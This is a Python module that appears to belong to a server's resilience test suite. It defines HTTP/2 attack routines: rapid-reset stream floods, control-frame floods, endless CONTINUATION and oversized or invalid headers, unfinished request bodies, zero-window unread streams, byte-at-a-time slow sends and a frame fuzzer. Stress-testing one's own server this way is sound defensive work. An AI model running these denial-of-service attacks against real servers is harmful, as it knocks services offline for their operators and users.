# SPDX-License-Identifier: MIT
"""The attacks of HTTP/2, added to the table of attacks.py."""
import struct

import frames
from attacks import MB, attack
from frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, head

ONLY = ("h2",)


def h2(field):
    """Offer h2 on all connections of the field."""
    field.tls.set_alpn_protocols(["h2"])
    return field


@attack("h2-rapid-reset", sources=("one", "many"), adapters=ONLY)
def rapid_reset(field):
    """Send requests and reset them at once: a server that limits only open streams does the work of all."""

    def make():
        path = field.random.choice(("/stats", "/sub?key=r", "/large/html"))
        return frames.PREFACE + b"".join(head(i, path=path) + frame(RST_STREAM, 0, i, frames.CANCEL) for i in range(1, 400, 2))

    h2(field).burst(200, make)


@attack("h2-floods", sources=("one", "many"), adapters=ONLY)
def floods(field):
    """Send frames that cost work and carry nothing, and read no acknowledgements."""
    units = (frame(PING, 0, 0, b"12345678"), frame(SETTINGS, 0, 0), frame(PRIORITY, 0, 1, b"\0\0\0\0\1"),
             frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1) * 30), frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))

    def make():
        if field.random.random() < 0.2:
            return frames.PREFACE + head(1, "POST", "/pub?key=x", ends=False) + frame(DATA, 0, 1) * 3000
        return frames.PREFACE + field.random.choice(units) * 3000

    h2(field).burst(200, make)


@attack("h2-heads", sources=("one", "many"), adapters=ONLY)
def heads(field):
    """Send heads that do not end, or are far too large, or are invalid in other ways."""

    def make():
        kind, size = field.random.randrange(5), field.random.choice((20000, 70000, 300000))
        if kind == 0:
            return frames.PREFACE + frame(HEADERS, END_STREAM, 1, frames.block([(":method", "GET")])) + frame(CONTINUATION, 0, 1) * 2000
        if kind == 1:
            return frames.PREFACE + head(1, path="/stats?" + "q" * size)
        if kind == 2:
            return frames.PREFACE + head(1, more=[(f"x{i}", str(i)) for i in range(size // 20)])
        if kind == 3:
            return frames.PREFACE + frame(HEADERS, END_STREAM | END_HEADERS, 1, b"\x40\x01a\x7f\xff\xff\xff\xff\x0f" + b"z" * 900)
        return frames.PREFACE + head(1, more=[field.random.choice(((":path", "/"), ("X", "y"), ("te", "gzip"), ("a", "b\rc")))])

    h2(field).burst(300, make)


@attack("h2-unfinished-bodies", sources=("one", "many"), adapters=ONLY, peak_mb=160)
def unfinished_bodies(field):
    """Send bodies without an end, many on each connection, which together exceed the memory for requests."""
    part = frame(DATA, 0, 0, b"7" * 16000)
    first = frames.PREFACE + b"".join(
        head(i, "POST", "/pub?key=x", ends=False) + (part[:5] + struct.pack(">I", i) + part[9:]) * 4 for i in range(1, 400, 2))
    h2(field).hold(60, lambda i: memoryview(first))


@attack("h2-unread", sources=("one", "many"), adapters=ONLY, peak_mb=192)
def unread(field):
    """Open streams and large pages, and take no bytes of them: by windows of a byte, or by not reading."""
    small = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1))
    wide = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 30)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))

    def begin(i):
        asks = b"".join(head(2 * k + 1, path="/large/html" if k % 4 else "/sub?key=stalled") for k in range(40))
        return frames.PREFACE + (small if i % 2 else wide) + asks

    h2(field).hold(40, begin, lambda i: frame(WINDOW_UPDATE, 0, 3, b"\0\0\0\1"), every=0.5, receive_bytes=4096)


@attack("h2-slow", sources=("one", "many"), idle=True, adapters=ONLY)
def slow(field):
    """Send a frame one byte at a time, or nothing after the preface."""
    text = frames.PREFACE + frame(HEADERS, 0, 1, frames.block([(":method", "GET")]))[:-4]
    h2(field).hold(100, lambda i: text[: len(text) if i % 2 else 24], lambda i: b"\0", every=0.5)


@attack("h2-fuzz", adapters=ONLY)
def fuzz(field):
    """Send frames of all kinds with bytes changed, doubled, or left out."""
    good = (head(1) + head(3, path="/sub?key=f"), head(1, "POST", "/pub?key=f", ends=False) + frame(DATA, END_STREAM, 1, b"[1]"),
            head(1, path="/large/html") + frame(WINDOW_UPDATE, 0, 1, b"\0\0\xff\xff") + frame(RST_STREAM, 0, 1, frames.CANCEL),
            frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 70000)) + head(1), frame(PING, 0, 0, b"12345678") + head(1))

    def make():
        r = field.random
        data = bytearray(r.choice(good) + r.choice(good))
        for _ in range(r.randrange(1, 6)):
            at, what = r.randrange(len(data)), r.randrange(3)
            if what == 0:
                data[at] = r.randrange(256)
            elif what == 1:
                del data[at : at + r.randrange(1, 9)]
            else:
                data[at:at] = data[at : at + r.randrange(1, 60)]
            if not data:
                break
        return frames.PREFACE + bytes(data)

    h2(field).burst(600, make, leave="close")
